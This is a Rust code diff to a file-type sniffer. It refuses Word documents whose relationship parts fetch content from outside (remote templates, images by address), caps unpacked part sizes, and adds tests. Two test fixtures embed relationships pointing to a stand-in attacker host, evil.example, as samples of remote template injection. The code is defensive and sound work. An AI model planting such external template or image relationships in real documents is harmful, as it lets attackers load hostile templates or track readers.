@@ -162,7 +162,8 @@ fn zip_document(b: &[u8]) -> Option<FileKind> {
             b.get(i..i + 2)?.try_into().ok()?,
         )))
     };
-    let names = zip_names(b)?;
+    let entries = zip_entries(b)?;
+    let names: Vec<&[u8]> = entries.iter().map(|e| e.name.as_slice()).collect();
     let lower: Vec<Vec<u8>> = names.iter().map(|n| n.to_ascii_lowercase()).collect();
     // ODF: the first local entry is `mimetype`, stored, its bytes right after the header.
     let (name_len, extra_len) = (u16_at(26)?, u16_at(28)?);
@@ -175,17 +176,82 @@ fn zip_document(b: &[u8]) -> Option<FileKind> {
             .any(|n| n.starts_with(b"basic/") || n.starts_with(b"scripts/"));
         return (text && !macros).then_some(FileKind::Odt);
     }
-    let has = |name: &[u8]| names.iter().any(|n| n == name);
+    let has = |name: &[u8]| names.contains(&name);
     // Macros and embedded binaries (vbaProject.bin, vbaData, ActiveX, OLE objects), in any
     // case of letters.
     let binaries = lower.iter().any(|n| n.ends_with(b".bin"));
-    (has(b"[Content_Types].xml") && has(b"word/document.xml") && !binaries)
-        .then_some(FileKind::Docx)
+    if !(has(b"[Content_Types].xml") && has(b"word/document.xml")) || binaries {
+        return None;
+    }
+    // Nothing fetched from elsewhere when it is opened (a remote template, a frame, an
+    // image or object by address): only hyperlinks may point outside. A relationship part
+    // that cannot be read is refused.
+    for e in entries
+        .iter()
+        .filter(|e| e.name.to_ascii_lowercase().ends_with(b".rels"))
+    {
+        if fetches_from_outside(&entry_data(b, e)?) {
+            return None;
+        }
+    }
+    Some(FileKind::Docx)
 }
 
-/// The entry names of a ZIP file's central directory, found from its end record (within the
+/// Whether an Office relationship part has an external relationship other than a hyperlink.
+fn fetches_from_outside(rels: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(rels).to_ascii_lowercase();
+    text.split("<relationship").skip(1).any(|r| {
+        let r = r.split('>').next().unwrap_or_default();
+        r.contains("targetmode")
+            && r.contains("external")
+            && !r.contains("/hyperlink\"")
+            && !r.contains("/hyperlink'")
+    })
+}
+
+/// An entry of a ZIP file's central directory.
+struct ZipEntry {
+    name: Vec<u8>,
+    method: usize,
+    size: usize,
+    unpacked: usize,
+    /// Where its local header is.
+    local: usize,
+}
+
+/// A part unpacked at most this large is read (relationship parts are a few kilobytes).
+const MAX_PART_BYTES: usize = 1024 * 1024;
+
+/// An entry's bytes, unpacked (stored or deflated, at most `MAX_PART_BYTES`).
+fn entry_data(b: &[u8], e: &ZipEntry) -> Option<Vec<u8>> {
+    use std::io::Read;
+    let u16_at = |i: usize| -> Option<usize> {
+        Some(usize::from(u16::from_le_bytes(
+            b.get(i..i + 2)?.try_into().ok()?,
+        )))
+    };
+    if !b.get(e.local..)?.starts_with(b"PK\x03\x04") || e.unpacked > MAX_PART_BYTES {
+        return None;
+    }
+    let start = e.local + 30 + u16_at(e.local + 26)? + u16_at(e.local + 28)?;
+    let data = b.get(start..start.checked_add(e.size)?)?;
+    match e.method {
+        0 => Some(data.to_vec()),
+        8 => {
+            let mut out = Vec::new();
+            flate2::read::DeflateDecoder::new(data)
+                .take(MAX_PART_BYTES as u64 + 1)
+                .read_to_end(&mut out)
+                .ok()?;
+            (out.len() <= MAX_PART_BYTES).then_some(out)
+        }
+        _ => None,
+    }
+}
+
+/// The entries of a ZIP file's central directory, found from its end record (within the
 /// last 64 KiB + 22 bytes); `None` when it cannot be read whole.
-fn zip_names(b: &[u8]) -> Option<Vec<Vec<u8>>> {
+fn zip_entries(b: &[u8]) -> Option<Vec<ZipEntry>> {
     let u16_at = |i: usize| -> Option<usize> {
         Some(usize::from(u16::from_le_bytes(
             b.get(i..i + 2)?.try_into().ok()?,
@@ -199,17 +265,23 @@ fn zip_names(b: &[u8]) -> Option<Vec<Vec<u8>>> {
         .rev()
         .find(|&i| b[i..].starts_with(b"PK\x05\x06"))?;
     let (count, offset) = (u16_at(end + 10)?, u32_at(end + 16)?);
-    let mut names = Vec::with_capacity(count.min(4096));
+    let mut entries = Vec::with_capacity(count.min(4096));
     let mut i = offset;
     for _ in 0..count {
         if !b.get(i..)?.starts_with(b"PK\x01\x02") {
             return None;
         }
         let (n, x, c) = (u16_at(i + 28)?, u16_at(i + 30)?, u16_at(i + 32)?);
-        names.push(b.get(i + 46..i + 46 + n)?.to_vec());
+        entries.push(ZipEntry {
+            name: b.get(i + 46..i + 46 + n)?.to_vec(),
+            method: u16_at(i + 10)?,
+            size: u32_at(i + 20)?,
+            unpacked: u32_at(i + 24)?,
+            local: u32_at(i + 42)?,
+        });
         i += 46 + n + x + c;
     }
-    Some(names)
+    Some(entries)
 }
 
 /// The file without the metadata cameras and editors write into it (ASVS 5.0 14.2.8): a
@@ -450,6 +522,16 @@ mod tests {
             ("word/document.xml", b"<w:document/>"),
         ]);
         assert_eq!(sniff(&docx), Some(FileKind::Docx));
+        // A link to a web page is fine.
+        let linked = zip(&[
+            ("[Content_Types].xml", b"<Types/>"),
+            ("word/document.xml", b"<w:document/>"),
+            (
+                "word/_rels/document.xml.rels",
+                br#"<Relationships><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://kolmonen.fi/" TargetMode="External"/><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>"#,
+            ),
+        ]);
+        assert_eq!(sniff(&linked), Some(FileKind::Docx));
         let odt = zip(&[
             ("mimetype", ODT_MIMETYPE),
             ("content.xml", b"<office:document-content/>"),
@@ -476,6 +558,28 @@ mod tests {
                     ("[Content_Types].xml", b"<Types/>"),
                     ("word/document.xml", b"<w:document/>"),
                     ("word/vbaProject.bin", b"\xD0\xCF"),
+                ]),
+            ),
+            (
+                "word with a remote template",
+                zip(&[
+                    ("[Content_Types].xml", b"<Types/>"),
+                    ("word/document.xml", b"<w:document/>"),
+                    (
+                        "word/_rels/settings.xml.rels",
+                        br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#,
+                    ),
+                ]),
+            ),
+            (
+                "word with an image by address",
+                zip(&[
+                    ("[Content_Types].xml", b"<Types/>"),
+                    ("word/document.xml", b"<w:document/>"),
+                    (
+                        "word/_rels/document.xml.rels",
+                        br#"<Relationships><Relationship Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' Target='http://evil.example/p.png' TargetMode='External'/></Relationships>"#,
+                    ),
                 ]),
             ),
             (
